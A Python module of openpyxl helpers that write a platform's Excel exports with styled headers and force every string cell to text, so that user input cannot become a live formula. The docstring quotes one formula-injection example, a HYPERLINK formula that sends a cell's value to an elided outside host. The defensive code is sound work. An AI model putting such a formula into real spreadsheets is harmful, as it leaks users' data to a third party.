"""The one way the platform writes Excel sheets (openpyxl): a styled header, wrapped rows, and text that can
never become a formula.

openpyxl stores any string that begins with ``=`` as a formula, so a unit's report text such as
``=HYPERLINK("http://…?leak="&B2,"查看")`` or a goal written "=95%" would become a live formula in the office's
export (formula injection). :func:`append` writes every string as text (the cell's type is forced to string; the
text itself is kept as written, not prefixed with a quote). Every xlsx writer goes through :func:`new_sheet` /
:func:`append` / :func:`to_bytes`; ``core/tests/test_xlsx.py`` checks it and the exports' tests read the cells back.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence

from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_FORMULA, TYPE_STRING
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")


def new_sheet(wb: Workbook, title: str, columns: Sequence[tuple[str, int]], first: bool = False) -> Worksheet:
    """A sheet with a bold, filled, frozen header row of ``(label, width)`` columns."""
    ws = wb.active if first else wb.create_sheet()
    ws.title = title[:31]
    append(ws, [str(c) for c, _w in columns])
    header = ws.max_row
    for i, (_c, w) in enumerate(columns, start=1):
        ws.column_dimensions[get_column_letter(i)].width = w
        cell = ws.cell(row=header, column=i)
        cell.font = Font(bold=True)
        cell.fill = HEADER_FILL
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
    ws.freeze_panes = f"A{header + 1}"  # a coordinate, not ws.cell(): that would create the next row
    return ws


def append(ws: Worksheet, values: Iterable) -> None:
    """Append a row; strings are always text, never formulas."""
    ws.append(list(values))
    for cell in ws[ws.max_row]:
        if cell.data_type == TYPE_FORMULA:
            cell.data_type = TYPE_STRING


def wrap(ws: Worksheet, min_row: int = 2) -> None:
    for row in ws.iter_rows(min_row=min_row):
        for c in row:
            c.alignment = Alignment(wrap_text=True, vertical="top")


def to_bytes(wb: Workbook) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
